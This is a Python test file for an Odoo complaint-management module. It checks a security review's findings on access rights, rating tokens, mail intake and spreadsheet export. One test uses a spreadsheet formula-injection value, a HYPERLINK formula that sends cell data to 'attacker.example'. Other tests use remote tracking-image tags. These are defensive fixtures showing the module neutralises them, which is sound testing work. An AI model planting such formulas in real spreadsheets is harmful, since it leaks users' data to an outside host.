"""Who reads and receives what (security review M1, M2, M3, M6, L1-L3, L8), and the header's
buttons: the server's step flags, at most three at once."""

import io
from datetime import date

import openpyxl
from lxml import etree

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import new_test_user

from .common import ComplaintHttpCase
from .test_integrity import IntegrityCase

# The complaint form's header buttons and the flag behind each (views/customer_complaint_views.xml).
HEADER_FLAGS = (
    "can_register",
    "can_investigate",
    "can_set_valid",
    "can_mark_invalid",
    "can_plan_actions",
    "can_approve_countermeasures",
    "can_verify",
    "can_reply",
    "can_close",
    "can_followup",
    "can_reopen",
    "can_reset",
)


class TestRatings(IntegrityCase):
    """M1, L4: complaint ratings belong to complaint users; a survey answers once, for its complaint."""

    def _closed(self):
        complaint = self._handled("action_reply", partner_id=self.partner.id)
        complaint._action_close("call", complaint.date_received.date())
        return complaint

    def test_employees_outside_complaints_neither_read_nor_mint_ratings(self):
        complaint = self._closed()
        token = complaint._rating_get_access_token()
        self.assertFalse(
            self.rpc(self.warehouse_user, "rating.rating", "search_read", [("res_model", "=", "customer.complaint")])
        )
        self.assertRefused(
            self.warehouse_user,
            "rating.rating",
            "create",
            {
                "res_model_id": self.env["ir.model"]._get_id("customer.complaint"),
                "res_id": complaint.id,
                "partner_id": self.partner.id,
            },
        )
        self.assertTrue(self.rpc(self.qa_user, "rating.rating", "search", [("access_token", "=", token)]))
        self.assertFalse(self.rpc(self.qa_user_b, "rating.rating", "search", [("access_token", "=", token)]))

    def test_a_survey_answers_once_and_only_for_its_complaint(self):
        complaint = self._closed()
        other = self._closed()
        token = complaint._rating_get_access_token()
        with self.assertRaisesRegex(UserError, "not the one of this complaint"):
            other.sudo().rating_apply(1, token=token, feedback="reopen the other one")
        self.assertEqual(other.state, "closed")
        complaint.sudo().rating_apply(5, token=token)
        with self.assertRaisesRegex(UserError, "already answered"):
            complaint.sudo().rating_apply(1, token=token, feedback="changed my mind")
        self.assertEqual((complaint.satisfaction, complaint.state), ("satisfied", "closed"))

    def test_rating_of_another_model_does_not_reopen(self):
        complaint = self._closed()
        foreign = self.env["rating.rating"].create(
            {
                "res_model_id": self.env["ir.model"]._get_id("res.partner"),
                "res_id": self.partner.id,
                "partner_id": self.partner.id,
            }
        )
        with self.assertRaises(UserError):
            complaint.sudo().rating_apply(1, rating=foreign)
        self.assertEqual(complaint.state, "closed")


class TestAssignees(IntegrityCase):
    """M2: complaints, their departments and routing go to complaint users only."""

    def test_users_without_complaint_rights_are_refused(self):
        complaint = self._handled("action_register")
        with self.assertRaises(ValidationError):
            self.rpc(self.qa_user, "customer.complaint", "write", complaint.ids, {"user_id": self.warehouse_user.id})
        for field in ("member_ids", "default_user_id", "manager_id"):
            value = [(4, self.warehouse_user.id)] if field == "member_ids" else self.warehouse_user.id
            with self.subTest(field=field), self.assertRaises(ValidationError):
                self.dept_logistics.write({field: value})
        with self.assertRaises(ValidationError):
            self.env["complaint.routing.rule"].create(
                {"name": "To the warehouse", "department_id": self.dept_logistics.id, "user_id": self.warehouse_user.id}
            )
        self.assertNotEqual(complaint.user_id, self.warehouse_user)

    def test_routing_skips_members_who_lost_complaint_rights(self):
        self.dept_logistics.member_ids = self.other_user
        self.other_user.group_ids -= self.env.ref("complaint_management.group_complaint_user")
        self.env["complaint.routing.rule"].create({"name": "Logistics", "department_id": self.dept_logistics.id})
        complaint = self._handled("action_register")
        complaint.sudo()._action_route()
        self.assertEqual(complaint.department_id, self.dept_logistics)
        self.assertNotEqual(complaint.user_id, self.other_user)

    def test_routing_by_hand_is_for_qa(self):
        complaint = self._handled("action_register")
        with self.assertRaises(AccessError):
            complaint.with_user(self.sales_user)._action_route()


class TestReads(IntegrityCase):
    """M3, L8, L9: what each role may read or write besides complaints."""

    def test_complaint_users_do_not_read_every_order(self):
        self._create_order([(self.product, 1)])
        self.assertRefused(self.cs_user, "sale.order", "search_read", [], ["name", "amount_total"])
        self.assertRefused(self.cs_user, "stock.picking", "search_read", [], ["name"])
        self.assertTrue(self.rpc(self.qa_user, "sale.order", "search", []))

    def test_warehouse_reads_returns_but_writes_none(self):
        self.assertTrue(self.env["ir.model.access"].with_user(self.warehouse_user).check("complaint.return", "read"))
        for model in ("complaint.return", "complaint.return.line"):
            with self.assertRaises(AccessError):
                self.env["ir.model.access"].with_user(self.warehouse_user).check(model, "write")

    def test_spreadsheets_are_built_for_qa_only(self):
        self.assertRefused(self.sales_user, "complaint.xlsx", "build", "register", "2026-01-01", "2026-01-31", [])


class TestIntake(IntegrityCase):
    """M6, L2: mail intake copes with a contact of another company and drops remote images."""

    def test_sender_of_another_company_and_remote_images(self):
        domain = self.env["mail.alias.domain"].create({"name": "integrity.example.com"})
        self.company.alias_domain_id = domain
        self.dept_quality.write({"alias_name": "cm-integrity", "alias_domain_id": domain.id})
        self.env["res.partner"].create(
            {"name": "Other Co Buyer", "email": "twin@customer.example", "company_id": self.company_b.id}
        )
        raw = (
            "From: Twin <twin@customer.example>\nTo: cm-integrity@integrity.example.com\nSubject: Broken\n"
            "Date: Mon, 01 Jan 2018 08:00:00 +0000\nMessage-ID: <integrity-1@customer.example>\n"
            "Content-Type: text/html\n\n"
            '<p>Broken lid</p><img src="http://127.0.0.1:8765/p.png"><img src="//tracker.example/t.gif">'
        )
        complaint = self.env["customer.complaint"].browse(self.env["mail.thread"].message_process(None, raw))
        self.assertEqual(complaint.company_id, self.company)
        self.assertFalse(complaint.partner_id, "the contact of company B is not matched")
        self.assertIn("Broken lid", complaint.description)
        self.assertNotIn("127.0.0.1", complaint.description)
        self.assertNotIn("tracker.example", complaint.description)
        self.assertGreater(complaint.date_received.year, 2018)

    def test_remote_images_are_dropped_from_descriptions(self):
        complaint = self._create_complaint(description='<p>x</p><img src="https://evil.example/pixel.png">')
        self.assertNotIn("evil.example", complaint.description)


class TestSpreadsheetText(IntegrityCase):
    """L1: user text is written as text, never as a formula or a link."""

    def test_names_are_not_formulas(self):
        self.partner.name = '=HYPERLINK("http://attacker.example/?"&E4,"open")'
        self._handled("action_register")
        _name, content = (
            self.env["complaint.xlsx"]
            .with_user(self.qa_user)
            .build("register", date(2026, 1, 1), date(2026, 12, 31), self.company.ids)
        )
        book = openpyxl.load_workbook(io.BytesIO(content))
        values = [cell.value for row in book.active.iter_rows() for cell in row]
        self.assertIn('=HYPERLINK("http://attacker.example/?"&E4,"open")', values)
        cell = next(c for row in book.active.iter_rows() for c in row if c.value and "attacker" in str(c.value))
        self.assertEqual(cell.data_type, "s", "a string cell, not a formula")


class TestHeaderButtons(IntegrityCase):
    """The header offers the steps the user may do now, at most three at once, whatever the
    role; a sales rep is never offered QA's steps."""

    def _check_offered(self, complaint):
        for user in (self.sales_user, self.qa_user, self.manager):
            complaint.invalidate_recordset()
            flags = complaint.with_user(user)
            offered = [name for name in HEADER_FLAGS if flags[name]]
            with self.subTest(state=complaint.state, user=user.login):
                self.assertLessEqual(len(offered), 3, offered)
                if user == self.sales_user:
                    self.assertFalse(
                        {"can_investigate", "can_set_valid", "can_plan_actions", "can_verify"} & set(offered)
                    )

    def test_at_most_three_steps_offered_per_state_and_role(self):
        self._check_offered(self._create_complaint(salesperson_id=self.sales_user.id))
        major = self._handled("action_register", severity="major", category_id=self.category.id)
        self._check_offered(major)
        for step in ("action_investigate", "action_set_valid", "action_plan_actions"):
            getattr(major, step)()
            self._check_offered(major)
        invalid = self._handled("action_investigate", category_id=self.category.id)
        invalid._action_mark_invalid("Not our product")
        self._check_offered(invalid)
        replied = self._handled("action_reply", category_id=self.category.id)
        self._check_offered(replied)
        replied._action_close("call", replied.date_received.date())
        self._check_offered(replied)

    def test_a_closed_complaint_is_read_only_on_screen(self):
        arch = (
            self.env["customer.complaint"].with_user(self.qa_user).get_views([(False, "form")])["views"]["form"]["arch"]
        )
        root = etree.fromstring(arch)
        for name in ("description", "category_id", "line_ids", "claimed_amount"):
            node = root.xpath(f"//sheet//field[@name='{name}']")[0]
            self.assertIn("is_locked", node.get("readonly", ""), name)
        self.assertNotIn("is_locked", root.xpath("//field[@name='lessons_learned']")[0].get("readonly") or "")

    def test_qa_is_not_offered_an_approval_it_would_be_refused(self):
        complaint = self._handled(severity="major", category_id=self.category.id)
        self.assertFalse(complaint.with_user(self.qa_user).can_approve_countermeasures)
        self.assertTrue(complaint.with_user(self.manager).can_approve_countermeasures)


class TestSpreadsheetController(ComplaintHttpCase):
    """L3: a malformed request is a clear 400, not a server error."""

    def test_bad_parameters_answer_400(self):
        new_test_user(self.env, "cm_ctl_qa", groups="complaint_management.group_complaint_qa")
        self.authenticate("cm_ctl_qa", "cm_ctl_qa")
        base = "/complaint_management/xlsx/annual?date_from=2025-01-01&date_to=2025-12-31"
        self.assertEqual(self.url_open(f"{base}&company_ids=abc").status_code, 400)
        self.assertEqual(
            self.url_open("/complaint_management/xlsx/annual?date_from=0001-01-01&date_to=0001-12-31").status_code,
            400,
        )
        self.assertEqual(self.url_open(base).status_code, 200)
